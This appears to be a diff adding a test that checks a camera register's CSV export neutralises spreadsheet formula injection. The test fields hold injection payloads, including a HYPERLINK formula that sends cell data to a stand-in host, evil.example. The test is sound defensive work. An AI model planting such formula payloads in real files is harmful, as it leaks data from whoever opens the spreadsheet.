@@ -95,6 +95,33 @@ def test_register_csv(client: TestClient, factory: Factory) -> None:
     assert rows[1]["permit_status"] == "missing"
 
 
+def test_register_csv_cells_cannot_run_as_formulas(client: TestClient, factory: Factory) -> None:
+    """A camera named like a formula must reach the DPO's spreadsheet as text; numbers stay
+    numbers (a west longitude is negative)."""
+    org = factory.org("Brf =Ek")
+    dpo = factory.user("dpo", org)
+    factory.camera(
+        org,
+        name='=HYPERLINK("http://evil.example/?"&A1,"open")',
+        purpose="+46 stands for Sweden",
+        address="@SUM(1+1)",
+        signage_text="\tcmd",
+        owner_contact_name="-2+3",
+        lat=57.7,
+        lon=-3.25,
+    )
+    r = client.get("/api/v1/register", headers=dpo.headers, params={"format": "csv"})
+    assert r.status_code == 200, r.text
+    [row] = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
+    assert row["camera_name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
+    assert row["purpose"] == "'+46 stands for Sweden"
+    assert row["address"] == "'@SUM(1+1)"
+    assert row["signage_text"] == "'\tcmd"
+    assert row["contact_name"] == "'-2+3"
+    assert row["controller"] == "Brf =Ek"
+    assert row["lon"] == "-3.25"
+
+
 def test_register_scoping(client: TestClient, factory: Factory) -> None:
     home, assigned, other = factory.org(), factory.org(), factory.org()
     for org in (home, assigned, other):
